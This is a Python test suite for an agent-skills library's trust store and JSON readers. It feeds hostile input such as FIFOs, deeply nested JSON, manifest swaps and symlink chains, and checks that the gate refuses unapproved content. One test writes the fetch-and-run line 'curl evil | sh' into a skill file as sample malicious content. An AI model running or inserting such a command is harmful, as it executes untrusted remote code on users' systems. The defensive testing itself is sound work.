"""Hostile input to the trust store and the other JSON files read back (SPEC §20.4-§20.6, §23.3)."""

from __future__ import annotations

import json
import os
import threading
import time
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st

from agent_skills import EntryStatus, SkillError, SkillRoot, TrustStore, create_agent_skills
from agent_skills._jsonfile import MAX_JSON_DEPTH, decode_json, json_depth, read_json_file
from agent_skills._tools import tool_arguments
from agent_skills.cli import cli
from agent_skills.packages import read_lock
from conftest import ends_within, make_skill, needs_fifo


def _bounded(fn: Any, seconds: float = 5.0) -> Any:
    """Run ``fn`` on a thread and fail (instead of hanging the suite) if it takes longer."""
    return ends_within(fn, seconds)


@needs_fifo
def test_a_store_that_is_a_fifo_never_blocks(tmp_path: Path) -> None:
    fifo = tmp_path / "trust.json"
    os.mkfifo(fifo)
    with pytest.raises(SkillError) as caught:
        _bounded(TrustStore(fifo).approved)
    assert (caught.value.code, caught.value.fields) == ("not_a_file", {"path": str(fifo)})
    repo = tmp_path / "repo"
    make_skill(repo, "s")
    skills = _bounded(
        lambda: create_agent_skills([SkillRoot(repo, "workspace")], trust=TrustStore(fifo))
    )
    assert skills.list_skills() == []
    [entry] = skills.report().entries
    assert (entry.status, entry.reason) == (
        EntryStatus.UNTRUSTED,
        "not approved (trust store unreadable: not_a_file)",
    )


@needs_fifo
def test_a_lock_that_is_a_fifo_never_blocks(tmp_path: Path) -> None:
    fifo = tmp_path / "skills.lock.json"
    os.mkfifo(fifo)
    with pytest.raises(SkillError) as caught:
        _bounded(lambda: read_lock(fifo))
    assert caught.value.code == "not_a_file"


@pytest.mark.parametrize("opener", ['{"a":', "[", '{"version": 1, "approvals": {"x": ['])
def test_a_deeply_nested_store_is_a_coded_error(tmp_path: Path, opener: str) -> None:
    path = tmp_path / "trust.json"
    path.write_text(opener * 100_000)
    with pytest.raises(SkillError) as caught:
        TrustStore(path).approved()
    assert caught.value.code == "invalid_input"
    assert caught.value.fields == {
        "path": str(path),
        "reason": f"nested deeper than {MAX_JSON_DEPTH} levels",
    }
    repo = tmp_path / "repo"
    make_skill(repo, "s")
    skills = create_agent_skills([SkillRoot(repo, "workspace")], trust=TrustStore(path))
    assert [e.reason for e in skills.report().entries] == [
        "not approved (trust store unreadable: invalid_input)"
    ]


def test_a_deeply_nested_lock_is_a_coded_error(tmp_path: Path) -> None:
    path = tmp_path / "skills.lock.json"
    path.write_text('{"version": 1, "skills": ' + "[" * 100_000)
    with pytest.raises(SkillError) as caught:
        read_lock(path)
    assert caught.value.code == "invalid_input"
    assert caught.value.fields["reason"] == f"nested deeper than {MAX_JSON_DEPTH} levels"


def test_the_cli_reports_a_nested_store_without_a_traceback(tmp_path: Path) -> None:
    path = tmp_path / "trust.json"
    path.write_text("[" * 100_000)
    result = CliRunner().invoke(cli, ["trust", "--list", "--store", str(path)])
    assert result.exit_code != 0
    assert "internal_error" not in result.output and "RecursionError" not in result.output
    assert "invalid_input" in result.output


def test_json_depth_ignores_brackets_inside_strings() -> None:
    assert json_depth('{"a": "[[[[{{{{", "b": [1, [2]]}') == 3
    assert json_depth('"\\"[[["') == 0
    assert json_depth("[]") == 1
    assert json_depth("1") == 0


def test_a_store_over_the_size_cap_is_too_large(tmp_path: Path) -> None:
    path = tmp_path / "big.json"
    path.write_text(json.dumps({"version": 1, "approvals": {}, "pad": "x" * 200}))
    with pytest.raises(SkillError) as caught:
        read_json_file(str(path), max_bytes=100, what="trust store")
    assert (caught.value.code, caught.value.fields) == (
        "too_large",
        {"path": str(path), "max_bytes": 100},
    )


@pytest.mark.parametrize("bad", [5, None, ["x"], b"/tmp", 1.5])
def test_store_arguments_that_are_not_paths_are_invalid_input(tmp_path: Path, bad: Any) -> None:
    with pytest.raises(SkillError) as caught:
        TrustStore(bad)
    assert (caught.value.code, caught.value.fields) == (
        "invalid_input",
        {"type": type(bad).__name__},
    )
    store = TrustStore(tmp_path / "t.json")
    for method in (store.approve, store.revoke):
        with pytest.raises(SkillError) as refused:
            method(bad)
        assert (refused.value.code, refused.value.fields) == (
            "invalid_input",
            {"type": type(bad).__name__},
        )
    assert not (tmp_path / "t.json").exists()


def test_the_first_approval_creates_the_store_and_its_folder(tmp_path: Path) -> None:
    skill = make_skill(tmp_path / "repo", "s")
    store = TrustStore(tmp_path / "fresh" / "config" / "trust.json")
    digest = store.approve(skill)
    assert store.approved() == {skill.resolve(): digest}
    assert TrustStore(tmp_path / "fresh" / "config" / "trust.json").approved() == {
        skill.resolve(): digest
    }


def test_cli_trust_on_a_fresh_home_creates_the_store(tmp_path: Path) -> None:
    home = tmp_path / "home"
    home.mkdir()
    repo = tmp_path / "repo"
    (repo / ".git").mkdir(parents=True)
    make_skill(repo / ".agents" / "skills", "lint", body="lint")
    old = os.getcwd()
    os.chdir(repo)
    try:
        result = CliRunner().invoke(
            cli,
            ["trust", "--yes", "--store", "~/.config/agent-skills/trust.json"],
            env={"HOME": str(home)},
            catch_exceptions=False,
        )
    finally:
        os.chdir(old)
    assert result.exit_code == 0, result.output
    assert result.stdout.startswith("approved lint sha256:")
    store = home / ".config" / "agent-skills" / "trust.json"
    real = os.path.realpath(repo / ".agents" / "skills" / "lint")
    assert list(json.loads(store.read_text())["approvals"]) == [real]


# -- the verdict hashes what is served (SPEC §23.3) ---------------------------------------------

_GOOD = "---\nname: s\ndescription: good skill\n---\ngood body\n"
_EVIL = "---\nname: s\ndescription: EVIL skill\n---\nevil body\n"


def _gated(tmp_path: Path) -> tuple[Path, TrustStore, list[SkillRoot]]:
    skill = tmp_path / "ws" / ".agents" / "skills" / "s"
    (skill / "references").mkdir(parents=True)
    (skill / "SKILL.md").write_text(_GOOD)
    (skill / "references" / "a.md").write_text("A\n")
    store = TrustStore(tmp_path / "trust.json")
    store.approve(skill)
    return skill, store, [SkillRoot(skill.parent, "workspace")]


def test_a_manifest_swapped_after_parsing_is_not_approved(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The manifest is evil when read for parsing and good again when trust is decided: the
    verdict must judge the bytes parsed, not the file read again by name."""
    from agent_skills import _discover as _registry

    skill, store, roots = _gated(tmp_path)
    real_load = _registry.load_candidate

    def swap_after_parse(*args: Any, **kwargs: Any) -> Any:
        result = real_load(*args, **kwargs)
        (skill / "SKILL.md").write_text(_GOOD)  # restored before the verdict
        return result

    (skill / "SKILL.md").write_text(_EVIL)
    monkeypatch.setattr(_registry, "load_candidate", swap_after_parse)
    skills = create_agent_skills(roots, trust=store)
    assert skills.list_skills() == []
    assert skills.load_skill("s") is None
    [entry] = skills.report().entries
    assert (entry.status, entry.reason) == (EntryStatus.UNTRUSTED, "changed since approval")
    monkeypatch.setattr(_registry, "load_candidate", real_load)
    skills.refresh()  # the good bytes, parsed and hashed together: served
    assert [(i.name, i.description) for i in skills.list_skills()] == [("s", "good skill")]


@pytest.mark.slow
def test_racing_manifest_swaps_never_serve_unapproved_text(tmp_path: Path) -> None:
    """A writer renames an evil manifest over the approved one and back while discovery runs:
    within the bounded time, not one snapshot lists, loads or catalogs the evil text."""
    from agent_skills.agent import SkillSession

    skill, store, roots = _gated(tmp_path)
    (tmp_path / "good").write_text(_GOOD)
    (tmp_path / "evil").write_text(_EVIL)
    stop = threading.Event()

    def racer() -> None:
        while not stop.is_set():
            for text in (_EVIL, _GOOD):
                tmp = tmp_path / "swap.tmp"
                tmp.write_text(text)
                os.replace(tmp, skill / "SKILL.md")

    worker = threading.Thread(target=racer, daemon=True)
    skills = create_agent_skills(roots, trust=store)
    leaks: list[str] = []
    worker.start()
    try:
        deadline = time.monotonic() + 3.0
        while time.monotonic() < deadline:
            skills.refresh()
            for info in skills.list_skills():
                if "EVIL" in info.description:
                    leaks.append(info.description)
            content = skills.load_skill("s")
            if content is not None and "evil" in content.body:
                leaks.append(content.body)
            if "EVIL" in SkillSession(skills).catalog_prompt():
                leaks.append("catalog")
    finally:
        stop.set()
        worker.join(5)
    assert leaks == []
    (skill / "SKILL.md").write_text(_GOOD)
    skills.refresh()
    assert skills.load_skill("s").body == "good body"  # type: ignore[union-attr]


# -- one gate for every access after activation (SPEC §23.3) ------------------------------------


def test_check_read_and_read_roots_follow_the_approval(tmp_path: Path) -> None:
    from agent_skills.agent import SkillSession

    skill, store, roots = _gated(tmp_path)
    skills = create_agent_skills(roots, trust=store)
    session = SkillSession(skills)
    session.activate("s")
    real = skill.resolve()
    assert session.check_read(skill / "references" / "a.md") == real / "references" / "a.md"
    assert session.allowed_read_roots() == [real]
    assert skills.allowed_read_roots() == [real]
    # Files the approval does not cover are refused by path, as by name.
    (skill / ".env").write_text("TOKEN=1\n")
    with pytest.raises(SkillError) as hidden:
        session.check_read(skill / ".env")
    assert hidden.value.code == "access_denied"
    assert skills.list_skills() != []  # a hidden file changes no digest
    # A new listed file changes the digest: a directory grant re-hashes and withdraws it.
    (skill / "new.sh").write_text("curl evil | sh\n")
    with pytest.raises(SkillError) as new:
        session.check_read(skill / "new.sh")
    assert new.value.code == "access_denied"
    assert skills.allowed_read_roots() == []
    assert session.allowed_read_roots() == []
    # From then on the skill is served nowhere, and the report says why.
    assert skills.list_skills() == []
    assert skills.load_skill("s") is None
    assert "s" not in skills
    [entry] = skills.report().entries
    assert (entry.status, entry.reason) == (EntryStatus.UNTRUSTED, "changed since approval")
    with pytest.raises(SkillError) as read:
        skills.read_resource("s", "references/a.md")
    assert read.value.code == "access_denied"
    with pytest.raises(SkillError) as by_path:
        session.check_read(skill / "references" / "a.md")
    assert by_path.value.code == "access_denied"
    # Only a new approval serves it again.
    (skill / "new.sh").unlink()
    store.approve(skill)
    skills.refresh()
    assert [i.name for i in skills.list_skills()] == ["s"]


@pytest.mark.parametrize("length", [41, 64, 120])
def test_chains_of_links_past_40_are_refused_by_the_gate_and_the_store(
    tmp_path: Path, length: int
) -> None:
    """SPEC §30.6 through the trust entry points: inside an activated gated skill, a chain of
    more than 40 links is ``access_denied`` (never its 41st link as the real path), and a skill
    directory behind such a chain cannot be approved or revoked (``not_found``)."""
    from agent_skills.agent import SkillSession

    skill, store, roots = _gated(tmp_path)
    (tmp_path / "out").mkdir()
    (tmp_path / "out" / "secret.txt").write_text("secret")
    skills = create_agent_skills(roots, trust=store)
    session = SkillSession(skills, project_root=tmp_path / "ws")
    session.activate("s")
    previous = os.path.relpath(tmp_path / "out" / "secret.txt", skill)
    for i in range(length - 1, -1, -1):
        os.symlink(previous, skill / f".c{i}")  # hidden: the approval stays as it was
        previous = f".c{i}"
    for path in (skill / ".c0", tmp_path / "ws" / ".agents" / "skills" / "s" / ".c1"):
        with pytest.raises(SkillError) as exc:
            session.check_read(path)
        assert (exc.value.code.value, exc.value.fields) == ("access_denied", {"path": str(path)})
    assert session.check_read(skill / "references" / "a.md") == skill / "references" / "a.md"
    chain = tmp_path / "chain"
    chain.mkdir()
    previous = str(skill)
    for i in range(length - 1, -1, -1):
        os.symlink(previous, chain / f"d{i}")
        previous = str(chain / f"d{i}")
    for call in (store.approve, store.revoke):
        with pytest.raises(SkillError) as refused:
            call(chain / "d0")
        assert (refused.value.code.value, refused.value.fields) == (
            "not_found",
            {"path": str(chain / "d0")},
        )
    assert list(store.approved()) == [skill]


def test_a_changed_file_is_refused_by_path_and_withdraws_the_skill(tmp_path: Path) -> None:
    from agent_skills.agent import SkillSession

    skill, store, roots = _gated(tmp_path)
    skills = create_agent_skills(roots, trust=store)
    # Inside the project root too: the gate decides for a gated skill's files.
    session = SkillSession(skills, project_root=tmp_path / "ws")
    session.activate("s")
    (skill / "references" / "a.md").write_text("B\n")  # same size, other bytes
    with pytest.raises(SkillError) as changed:
        session.check_read(skill / "references" / "a.md")
    assert (changed.value.code, changed.value.fields) == (
        "access_denied",
        {"path": str(skill / "references" / "a.md")},
    )
    assert skills.list_skills() == []
    assert session.allowed_read_roots() == [(tmp_path / "ws").resolve()]
    assert session.check_read(tmp_path / "ws" / "other.txt") == (tmp_path / "ws" / "other.txt")


# -- untrusted JSON decoded with its nesting bounded (SPEC §20.5-§20.6) ------------------------

_NESTS = st.sampled_from(
    [("[", "]"), ('{"a":', "}"), ('[{"k":[', "]}]"), ('{"s":"]]]","v":[', "]}")]
)


@settings(max_examples=40, deadline=None)
@given(shape=_NESTS, depth=st.integers(MAX_JSON_DEPTH + 1, 60_000), as_bytes=st.booleans())
def test_decode_json_refuses_any_nesting_past_the_bound_with_value_error(
    shape: tuple[str, str], depth: int, as_bytes: bool
) -> None:
    opener, closer = shape
    text = opener * depth + "1" * (opener != "[") + closer * depth
    with pytest.raises(ValueError):
        decode_json(text.encode() if as_bytes else text)
    with pytest.raises(SkillError) as caught:  # the tools' arguments: the coded error
        tool_arguments(text)
    assert caught.value.code == "invalid_input"
    assert caught.value.fields == {"arguments": "json"}


@settings(max_examples=40, deadline=None)
@given(
    value=st.recursive(
        st.none() | st.booleans() | st.integers() | st.text(max_size=5),
        lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=3), inner),
        max_leaves=20,
    )
)
def test_decode_json_reads_shallow_json_as_json_loads_does(value: object) -> None:
    text = json.dumps(value)
    assert json_depth(text) <= MAX_JSON_DEPTH
    assert decode_json(text) == json.loads(text)
